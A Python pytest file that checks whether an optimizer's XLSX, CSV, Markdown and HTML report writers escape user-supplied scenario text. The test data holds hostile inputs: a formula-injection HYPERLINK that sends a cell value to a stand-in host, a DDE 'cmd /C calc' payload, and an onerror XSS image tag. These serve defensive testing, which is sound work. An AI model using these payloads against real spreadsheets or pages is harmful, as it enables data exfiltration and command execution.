"""A scenario's own words reach reports and CSV files as text, never as formulas or markup (issue 10, section 3).

The hostile scenario puts a formula in every text a user controls that the writers show: the name,
an invented metric key (a target, so it gets a column), a constraint name and expression, and the
currency.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from optimizer import Scenario, compare, optimize, run_sweep
from optimizer.output.formats import csv_cell, csv_document, csv_text
from optimizer.output.plan import plan_csv
from optimizer.output.report import write_report
from optimizer.output.whatif import compare_csv, sweep_csv

NAME = '=HYPERLINK("http://x?x="&Plan!B9,"open")'
METRIC = "=cmd|' /C calc'!A0"
CONSTRAINT = "@SUM(A1)"
CURRENCY = "+1"


def _hostile(**changes) -> Scenario:
    data = {"name": NAME, "currency": CURRENCY, "deal_value": 1000,
            "funnel": {"qualification_rate": 0.5, "win_rate": 0.2},
            "targets": {"deals": 20, METRIC: 3},
            "constraints": [{"name": CONSTRAINT, "expr": "-spend[email] >= -0.9 * total_spend"}],
            "channels": [{"name": "email", "cost_per_lead": 20, "max_units": 150},
                         {"name": "search", "cost_per_lead": 50},
                         {"name": "tv", "unit_cost": 10, "yields": {METRIC: 3}}]}
    return Scenario.model_validate({**data, **changes})


@pytest.fixture(scope="module")
def plan():
    return optimize(_hostile())


# -- XLSX ----------------------------------------------------------------------------------------
def test_xlsx_text_cells_are_strings_with_the_quote_prefix(plan, tmp_path):
    path = tmp_path / "plan.xlsx"
    write_report(plan, None, path)
    with zipfile.ZipFile(path) as z:
        sheets = {n: z.read(n).decode() for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)}
    assert len(sheets) == 5
    for name, xml in sheets.items():
        assert not re.search(r"<f[ >]", xml), name  # no formula anywhere
    book = openpyxl.load_workbook(path)
    texts = [(ws.title, c) for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts
    for title, c in texts:
        assert c.data_type == "s" and c.quotePrefix, (title, c.coordinate, c.value)
    values = {c.value for _, c in texts}
    # each word reaches the workbook exactly as typed: nothing added in front
    assert NAME in values  # About: scenario
    assert METRIC in values  # a Plan column header
    assert f"constraints[{CONSTRAINT}]" in values  # a Limits row
    assert any(v.startswith(f"Scenario {NAME}: ") and f"currency {CURRENCY};" in v for v in values)  # Inputs note
    assert f"constraints[{CONSTRAINT}]: -spend[email] >= -0.9 * total_spend" in values
    # numbers stay numbers
    plan_sheet = book["Plan"]
    assert isinstance(plan_sheet.cell(2, 2).value, (int, float))


def test_xlsx_keeps_error_codes_and_control_characters_as_text(tmp_path):
    path = tmp_path / "plan.xlsx"
    write_report(optimize(_hostile(name="#N/A\x07bell", currency='A"B;')), None, path)
    book = openpyxl.load_workbook(path)
    about = {row[0].value: row[1] for row in book["About"].iter_rows(min_row=2) if row[0].value}
    assert about["scenario"].data_type == "s" and about["scenario"].value == "#N/A\ufffdbell"
    spend = book["Plan"].cell(2, 2)
    assert spend.number_format == '#,##0 \\A\\"\\B\\;;-#,##0 \\A\\"\\B\\;'


# -- CSV -----------------------------------------------------------------------------------------
def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_text_quotes_what_a_spreadsheet_would_run():
    for text in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", NAME):
        assert csv_text(text) == "'" + text
    for text in ("email", "", "-5", "+1.5", "-2.5e3", ".5", "1-2"):
        assert csv_text(text) == text
    assert csv_text("-2+3") == "'-2+3"  # an expression, not a number
    assert csv_text("-١") == "'-١"  # not an ASCII number


def test_csv_numbers_are_never_quoted():
    import numpy as np

    assert [csv_cell(v) for v in (-5.0, -5, np.float64(-0.25), np.int64(-3), float("-inf"), None)] == [
        "-5.0", "-5", "-0.25", "-3", "", ""]
    assert _cells(csv_document(["a", "b"], [[-5.0, "-5 leads"]])) == [["a", "b"], ["-5.0", "'-5 leads"]]


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so


def test_plan_csv(plan):
    rows = _cells(plan_csv(plan))
    _assert_no_formula(rows)
    assert rows[0][-1] == "'" + METRIC
    tv = next(r for r in rows if r[0] == "tv")
    assert float(tv[-1]) == pytest.approx(3.0)  # the target of 3 from tv's 3 per unit: one unit, $10


def test_sweep_csv():
    result = run_sweep(_hostile(), {"channels[email].max_units": [100.0, 150.0]})
    rows = _cells(sweep_csv(result))
    _assert_no_formula(rows)
    assert rows[0][-2] == "'" + METRIC


def test_compare_csv():
    s = _hostile()
    result = compare([s, _hostile(budget=100)], changes=[{}, {"budget": -5}])
    rows = _cells(compare_csv(result))
    _assert_no_formula(rows)
    assert rows[1][0] == "'" + NAME and rows[2][3] == "infeasible"
    assert rows[0][-1] == "'" + METRIC


# -- Markdown and HTML -----------------------------------------------------------------------------
SCRIPT = "<img src=x onerror=alert(1)>"
MARKUP = "*bold* _em_ `code` ~~gone~~ [link](http://x) ![i](http://x/i.png) <!-- c --> &amp; a|b \\*"


def _tags(html_text: str) -> set[str]:
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.text = set(), []

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)

        def handle_comment(self, data):
            self.tags.add("!--")

        def handle_data(self, data):
            self.text.append(data)

    parser = Tags()
    parser.feed(html_text)
    return parser.tags, "".join(parser.text)


def test_markdown_shows_the_scenario_words_as_typed(tmp_path):
    # rendered as CommonMark with tables and strikethrough, raw HTML allowed: what a wiki does
    from markdown_it import MarkdownIt

    name = f"{SCRIPT} {MARKUP}"
    path = tmp_path / "plan.md"
    write_report(optimize(_hostile(name=name)), None, path)
    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(path.read_text())
    tags, text = _tags(rendered)
    assert tags <= {"h1", "h2", "p", "em", "strong", "table", "thead", "tbody", "tr", "th", "td"}, tags
    assert f"{name}: min_spend = " in text  # the heading, character for character
    assert f"Scenario {name}: objective min_spend" in text  # the Inputs note (inside the writer's own _..._)


def test_markdown_table_cells_stay_cells(tmp_path):
    path = tmp_path / "plan.md"
    write_report(optimize(_hostile(constraints=[{"name": "a|b", "expr": "spend[email] <= 0.9 * total_spend"}])),
                 None, path)
    row = next(line for line in path.read_text().splitlines() if line.startswith("| constraints["))
    assert row.startswith("| constraints[a\\|b] | constraint | <= |")
    assert len(re.findall(r"(?<!\\)\|", row)) == 12  # 11 columns


def test_html_shows_the_scenario_words_as_typed(tmp_path):
    name = f"{SCRIPT} {MARKUP}"
    path = tmp_path / "plan.html"
    write_report(optimize(_hostile(name=name)), None, path)
    page = path.read_text()
    assert "<img src=x" not in page and "<!-- c -->" not in page
    tags, text = _tags(page)
    assert "!--" not in tags
    assert f"{name}: min_spend = " in text
